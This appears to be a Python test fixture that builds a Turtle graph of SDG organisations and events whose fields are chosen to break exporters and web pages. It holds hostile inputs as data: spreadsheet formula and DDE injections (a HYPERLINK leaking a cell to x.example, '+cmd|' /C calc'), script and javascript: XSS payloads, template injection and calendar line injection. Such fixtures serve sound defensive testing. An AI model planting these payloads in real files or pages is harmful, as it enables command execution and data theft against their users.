"""A small graph whose names, codes and addresses try to break every format and every page."""

import json

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
CHINESE = "国际岩溶研究中心，\u201c岩溶\u201d | 桂林"
ARABIC = "المركز الدولي \u202eللمياه"
QUOTES = "Quotes \" ' & <b>bold</b> </script><script>alert(1)</script> ]]> _x0041_ #N/A"
TURTLE = r"""
@prefix basis: <https://w3id.org/sdggraph/id/basis/> .
@prefix category: <https://w3id.org/sdggraph/id/category/> .
@prefix contribution: <https://w3id.org/sdggraph/id/contribution/> .
@prefix cooperation: <https://w3id.org/sdggraph/id/cooperation/> .
@prefix cooperation-kind: <https://w3id.org/sdggraph/id/cooperation-kind/> .
@prefix country: <https://w3id.org/sdggraph/id/country/> .
@prefix country-group: <https://w3id.org/sdggraph/id/country-group/> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix event: <https://w3id.org/sdggraph/id/event/> .
@prefix event-kind: <https://w3id.org/sdggraph/id/event-kind/> .
@prefix foaf: <http://xmlns.com/foaf/0.1/> .
@prefix org: <http://www.w3.org/ns/org#> .
@prefix organisation: <https://w3id.org/sdggraph/id/organisation/> .
@prefix sdg: <http://metadata.un.org/sdg/> .
@prefix sg: <https://w3id.org/sdggraph/ontology#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix theme: <https://w3id.org/sdggraph/id/theme/> .
@prefix wgs: <http://www.w3.org/2003/01/geo/wgs84_pos#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .

organisation:F a sg:Organisation ; sg:code "=1+1" ; skos:prefLabel FORMULA@en ; sg:acronym "-2+3" ;
  org:classification category:category-2 ; sg:country country:FJI ; sg:city "@Suva" ; sg:theme theme:karst ;
  wgs:long 178.4 ; wgs:lat -18.1 ; foaf:homepage <javascript:alert(1)> ; skos:altLabel "'=already", "info@un", "a|b" .
organisation:C a sg:Organisation ; sg:code "中国" ; skos:prefLabel CHINESE@en ; org:classification category:category-2 ;
  sg:country country:WSM ; wgs:long -171.8 ; wgs:lat -13.8 ; foaf:homepage <https://example.org/?a=1&b=2> .
organisation:A a sg:Organisation ; sg:code "A" ; skos:prefLabel ARABIC@en ; org:classification category:category-2 .
organisation:Q a sg:Organisation ; sg:code "Q" ; skos:prefLabel QUOTES@en ; org:classification category:category-2 .
contribution:F-1 a sg:Contribution ; sg:contributor organisation:F ; sg:contributesTo sdg:6.5 ; sg:basis basis:stated ;
  sg:activity "+cmd|' /C calc'!A0"@en ; dcterms:created "2026-02-03"^^xsd:date ;
  sg:evidence <https://example.org/a%7Cb> , <https://example.org/=1> .
cooperation:FC a sg:Cooperation ; sg:partner organisation:F , organisation:C ; sg:year "2020"^^xsd:gYear ;
  sg:cooperationKind cooperation-kind:agreement ; dcterms:description "@SUM(A1)"@en , "two\nlines"@en .
event:one a sg:Event ; skos:prefLabel FORMULA@en , "second"@fr ; sg:start "2026-03-01"^^xsd:date ;
  sg:end "2026-03-02"^^xsd:date ; sg:eventKind event-kind:training ; sg:organiser organisation:F ;
  sg:openTo country-group:ldc ; sg:place "Suva; Fiji, \"X\"\nBEGIN:VALARM" ; skos:altLabel "会议"@zh , "Réunion"@fr .
event:month a sg:Event ; skos:prefLabel CHINESE@en ; sg:start "2026-02"^^xsd:gYearMonth ; sg:organiser organisation:C .
event:old a sg:Event ; skos:prefLabel ARABIC@en ; sg:start "2019"^^xsd:gYear ; sg:eventHost organisation:A .
event:undated a sg:Event ; skos:prefLabel "When?"@en .
"""

EVIL = '"><script>alert(1)</script>\u202e{{ 7*7 }} javascript:'
# beyond what a table or a map can show: very long texts, places outside the world, a centre of which nothing is known
BEYOND = f"""
@prefix id: <https://w3id.org/sdggraph/id/> .
@prefix kind: <https://w3id.org/sdggraph/id/cooperation-kind/> .
organisation:E a sg:Organisation ; sg:code "E<b>" ; skos:prefLabel {json.dumps(EVIL)}@en ; sg:city {json.dumps(EVIL)} ;
  org:classification category:category-2 ; foaf:homepage <javascript:alert(1)> ; sg:theme theme:karst ;
  sg:country country:CHN ; skos:altLabel {json.dumps("n" * 10_000)} , "مركز المياه"@ar ; wgs:lat 91 ; wgs:long 400 .
organisation:L a sg:Organisation ; sg:code "L" ; skos:prefLabel {json.dumps("long " * 2_000)}@en ;
  org:classification category:category-2 ; wgs:lat -90 ; wgs:long 180 ; sg:country country:CHN ; sg:theme theme:karst .
organisation:N a sg:Organisation ; sg:code "N" ; skos:prefLabel "Nothing known"@en ;
  org:classification category:category-2 .
organisation:H a sg:Organisation ; sg:code "h" ; skos:prefLabel "A host"@en .
id:contribution\\/E-1 a sg:Contribution ; sg:contributor organisation:E ; sg:contributesTo sdg:6.5 ;
  sg:basis basis:stated ; sg:activity {json.dumps(EVIL)}@en ; sg:evidence <javascript:alert(1)> , <https://e.org/x> .
id:cooperation\\/EL a sg:Cooperation ; sg:partner organisation:E , organisation:L ; sg:cooperationKind kind:agreement ;
  dcterms:description {json.dumps(EVIL)}@en ; sg:evidence <data:text/html,x> .
"""


def turtle(*, beyond: bool = False) -> str:
    """The graph as Turtle; with `beyond`, also what only pages can show."""
    text = TURTLE + (BEYOND if beyond else "")
    for name, value in (("FORMULA", FORMULA), ("CHINESE", CHINESE), ("ARABIC", ARABIC), ("QUOTES", QUOTES)):
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        text = text.replace(f"{name}@en", f'"{escaped}"@en')
    return text
